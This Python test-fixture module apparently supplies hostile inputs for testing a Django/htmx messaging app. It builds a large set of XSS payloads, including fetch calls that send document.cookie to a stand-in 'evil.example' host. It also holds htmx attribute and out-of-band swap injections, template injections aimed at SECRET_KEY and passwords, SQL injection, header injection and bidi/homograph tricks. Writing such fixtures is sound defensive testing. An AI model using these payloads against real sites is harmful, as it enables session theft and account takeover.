"""Texts that somebody might send to do more than say something. All of them are ours.

`STRINGS` are put together from what is dangerous (a script, an attribute of htmx, a mark that
turns the direction of writing) and from the places it has to get out of: an element, an attribute
in each kind of quotes, a comment, a script, a template, an address.
"""

from itertools import product

# What would show that something was believed: a dialog, a request to elsewhere, a swap.
DOES = (
    "alert(1)",
    "fetch('//evil.example/'+document.cookie)",
    "location='//evil.example/'",
    "document.body.remove()",
    "htmx.ajax('GET','//evil.example/','body')",
    "parent.postMessage(document.cookie,'*')",
)

ELEMENTS = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT><!--{}-->",
    '<img src=x onerror="{}">',
    '<svg onload="{}"></svg>',
    "<svg><script>{}</script></svg>",
    "<math><mtext></mtext><script>{}</script></math>",
    '<body onload="{}">',
    '<details open ontoggle="{}"><summary>x</summary></details>',
    '<input autofocus onfocus="{}">',
    '<video><source onerror="{}"></video>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}" autofocus>click</a>',
    '<form action="javascript:{}"><button>go</button></form>',
    '<button popovertarget=x onclick="{}">go</button>',
    "<style>@import '//evil.example/x.css';</style><!--{}-->",
    "<link rel=stylesheet href=//evil.example/x.css><!--{}-->",
    '<meta http-equiv=refresh content="0;url=//evil.example/?{}">',
    "<base href=//evil.example/><!--{}-->",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><script>{}</script>">',
    "<textarea></textarea><script>{}</script>",
    "<title></title><script>{}</script>",
    "<plaintext>{}",
    "<xmp></xmp><script>{}</script>",
    '<table><td background="javascript:{}"></table>',
    '<div style="position:fixed;inset:0;background:red">{}</div>',
    "<dialog open>{}</dialog>",
    '<isindex action="javascript:{}">',
    "<script/x>{}</script/x>",
    "<<script>{}//<</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script\t>{}</script\n>",
    "<script\0>{}</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "＜script＞{}＜/script＞",
)

# Out of an attribute, a comment, a script, a text box, a title.
BREAKING_OUT = (
    '" onmouseover="{}" x="',
    "' onmouseover='{}' x='",
    "` onmouseover=`{}` x=`",
    '"><script>{}</script>',
    "'><script>{}</script>",
    '" autofocus onfocus="{}',
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "</script><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</template><script>{}</script>",
    "</article></li></ol></main><script>{}</script>",
    '"};{};//',
    "');{};//",
    "*/{};/*",
    "\\';{};//",
    "\r\n\r\n<script>{}</script>",
    "\u2028{}\u2029",
)

# htmx believes attributes, whoever wrote them.
HTMX = tuple(
    f'<{element} {prefix}{attribute}="{value}" {prefix}trigger="load">x</{element}>'
    for element, prefix, (attribute, value) in product(
        ("div", "a"),
        ("hx-", "data-hx-"),
        (
            ("get", "//evil.example/"),
            ("post", "/inbox/read/"),
            ("on:load", "alert(1)"),
            ("on--load", "alert(1)"),
            ("vals", "js:{a:alert(1)}"),
            ("vars", "a:alert(1)"),
            ("headers", "js:{a:alert(1)}"),
            ("swap-oob", "innerHTML:body"),
            ("swap-oob", "outerHTML:input[name=csrfmiddlewaretoken]"),
            ("ext", "sse"),
            ("boost", "true"),
            ("confirm", "x"),
            ("select-oob", "#main"),
            ("ws", "connect:wss://evil.example"),
            ("target", "body"),
            ("include", "input"),
            ("push-url", "//evil.example"),
            ("preserve", "true"),
            ("disable", "true"),
            ("disinherit", "*"),
        ),
    )
)

# Parts of our own pages, to be swapped in their places or found by our own script.
_PLACES = tuple(
    f'<{element} id="{name}" hx-swap-oob="true">Taken over</{element}>'
    for element, name in product(
        ("div", "span"),
        (
            "main",
            "toasts",
            "live",
            "unread-count",
            "bell-count",
            "composer",
            "feed",
            "conversation-list",
            "notifications-list",
            "progress",
            "actions",
            "toast-error",
            "seen",
            "m-1",
            "m-1-slot",
            "row-1",
        ),
    )
)
OUT_OF_BAND = (
    *_PLACES,
    '<input name="csrfmiddlewaretoken" value="mine">',
    '<div data-dismiss data-toast data-retry data-cancel="main">x</div>',
    '<a data-key="r" href="//evil.example/">x</a>',
    "<title>Taken over</title>",
    '<meta name="htmx-config" content=\'{"allowEval":true}\'>',
    '<script type="module" src="/static/js/app.js"></script>',
)

TEMPLATES = (
    "{{ 7|add:7 }}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{% load static %}{% static 'x' %}",
    "{% include 'admin/index.html' %}",
    "{% debug %}",
    "{% csrf_token %}",
    "{# nothing #}shown",
    "{% verbatim %}",
    "{{ message.sender.email }}",
    "{% endblock %}{% block main %}x",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(name)s %s %d {0} {name}",
    "{}{0.__class__.__init__.__globals__}",
    "__GAP_0__",
    "\x00gap\x00",
    "Robert'); DROP TABLE messaging_message;--",
    "' OR '1'='1",
    "\\'; SELECT pg_sleep(9);--",
    "NULL",
    "undefined",
    "NaN",
)

_ENDS = tuple(
    f"https://a.example/{end}"
    for end in (
        '"onmouseover="alert(1)',
        "'onmouseover='alert(1)",
        "<script>alert(1)</script>",
        "`onmouseover=`alert(1)",
        "\u202egnp.exe",
        "%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
        "&quot;onmouseover=alert(1)",
        '\\"onmouseover=alert(1)',
        "?a=javascript:alert(1)",
        '#"><img src=x onerror=alert(1)>',
    )
)
ADDRESSES = (
    *_ENDS,
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "https://user:password@evil.example/",
    "https://evil.example@testserver/",
    "https://xn--80ak6aa92e.com/",
    "https://аррӏе.example/",
    "http://[::1]/",
    "http://[",
    "https://",
    "hTTps://A.example/(((((((((",
    "https://a.example/" + "a" * 2_000,
    "https://a.example/" + "))))" * 50,
)

# What turns, hides, piles up or cannot be.
CHARACTERS = (
    "\u202eesrever\u202c",
    "\u2067\u202eevil\u2069\u202c",
    "\u202a" * 50 + "deep",
    "\u2066unclosed",
    "\u061c\u200f\u200e marks",
    "\u200b\u200c\u200d\ufeff" * 20 + "x",
    "\u2060\u2061\u2062\u2063visible",
    "a" + "\u0301" * 500,
    "Z̸̧̢̡̛" + "\u0334\u0335\u0336\u0337" * 200,
    "\u20dd\u20de\u20e3 enclosed",
    "\ufdfd" * 40,
    "\U0001242b" * 40,
    "x" * 5_000,
    "x " * 5_000,
    "\u3164\u115f\u1160 filler and text",
    "👩‍👩‍👧‍👦" * 60,
    "🏴\U000e0067\U000e0062\U000e007f",
    "\U000e0001\U000e0041 tagged",
    "مرحبا <b>x</b> שלום",
    "\t\v\f tabs",
    "a\u0085b\u2028c\u2029d",
    "\x01\x02\x07\x08\x0b\x1b[31mred\x1b[0m\x7f",
    "\x1b]0;title\x07 terminal",
    "line\r\nSet-Cookie: a=b\r\n\r\nbody",
    "\ufffe\uffff not characters",
    "\ud800".encode("utf-8", "surrogatepass").decode("utf-8", "replace") + " half",
    "\u00ad\u00ad soft\u00adhyphen",
    "ﬁ ﬂ ſ İ ı ß",
    "\n" * 400 + "far down",
    "".join(chr(number) for number in range(0xA0, 0x180)),
)

# What no database keeps: refused with a sentence.
NOT_STORABLE = ("NUL \0 inside", "half \ud83d of a pair", "\udc00 the other half")

STRINGS = tuple(
    dict.fromkeys(
        [shape.replace("{}", DOES[place % len(DOES)]) for place, shape in enumerate(ELEMENTS)]
        + [shape.replace("{}", does) for shape, does in product(BREAKING_OUT, DOES)]
        + [shape.replace("{}", DOES[(place + 3) % 6]) for place, shape in enumerate(ELEMENTS)]
        + [*HTMX, *OUT_OF_BAND, *TEMPLATES, *ADDRESSES, *CHARACTERS]
    )
)
assert len(STRINGS) >= 400, len(STRINGS)
